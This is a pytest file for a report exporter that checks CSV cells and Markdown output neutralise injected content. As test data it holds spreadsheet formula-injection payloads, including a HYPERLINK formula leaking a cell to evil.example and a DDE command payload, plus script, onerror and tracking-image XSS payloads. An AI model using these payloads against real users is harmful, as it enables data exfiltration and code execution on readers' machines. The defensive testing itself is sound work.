"""Issue 39 item 6: reports that cannot attack their reader.

Before: CSV cells were written as they came, so a question `=HYPERLINK("http://evil/?"&A1,"x")`
ran as a formula when the CSV was opened in a spreadsheet; the Markdown report passed
`<script>`, `<img onerror=...>` and remote images `![x](http://...)` from questions, answers,
flow names and the title straight into the page a Markdown viewer renders."""
from __future__ import annotations

import csv
import io
import re

import pytest

from flowkit.eval.exports import csv_cell, md_text, to_csv, to_markdown
from flowkit.eval.metrics import QuestionResult
from flowkit.eval.report import EvalReport, build_report

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]
HTML = ['<script>alert(1)</script>', '<img src=x onerror="alert(1)">',
        "![pixel](http://evil.example/track.png)", '[click](javascript:alert(1))',
        "<http://evil.example/auto>", "`code` **bold** | pipe"]


def _report(texts: list[str], title: str = "") -> EvalReport:
    rows = {f: [QuestionResult(flow=f, question_id=f"q{i}", question=t, answers=[t],
                               prediction=t if f == "a" else "other", status="ok", type=t,
                               em=1.0 if f == "a" else 0.0, f1=0.5, acc=1.0, recall=None,
                               tokens=10, llm_calls=1, seconds=0.1, run_id=t)
                for i, t in enumerate(texts)] for f in ("a", texts[0][:30])}
    return build_report(rows, eval_id="e1", name=title, dataset=texts[0], kb=texts[-1], k=5)


@pytest.mark.parametrize("text", FORMULAS)
def test_csv_cells_that_start_like_a_formula_are_neutralised(text: str) -> None:
    rows = list(csv.DictReader(io.StringIO(to_csv(_report([text])))))
    assert rows
    for row in rows:
        for key in ("question", "answers", "prediction", "type", "run_id", "flow"):
            cell = row[key]
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (key, cell)
        assert row["question"] == "'" + text                    # the text itself is kept
    assert csv_cell(-0.5) == -0.5 and csv_cell("plain") == "plain"


def test_markdown_report_shows_html_and_images_as_text() -> None:
    md = to_markdown(_report(HTML, title='<script>alert("t")</script> ![t](http://evil.example/t.png)'))
    assert "<script" not in md and "<img" not in md and "<http" not in md
    assert not re.search(r"(?<!\\)!\[[^\]]*\]\(http", md)        # no remote image
    assert not re.search(r"(?<!\\)\[[^\]]*\]\(javascript", md)   # no link
    assert "&lt;script&gt;" in md and "\\!\\[pixel\\]" in md
    images = re.findall(r"!\[[^\]]*\]\(([^)]*)\)", md)
    assert images and all(src.startswith("data:image/svg+xml;base64,") for src in images)


def test_markdown_text_keeps_every_character_visible() -> None:
    assert md_text("a_b*c") == "a\\_b\\*c"
    assert md_text("two\nlines") == "two lines"
    assert md_text("50.0 [+1.2, 3.4]") == "50.0 \\[+1.2, 3.4\\]"
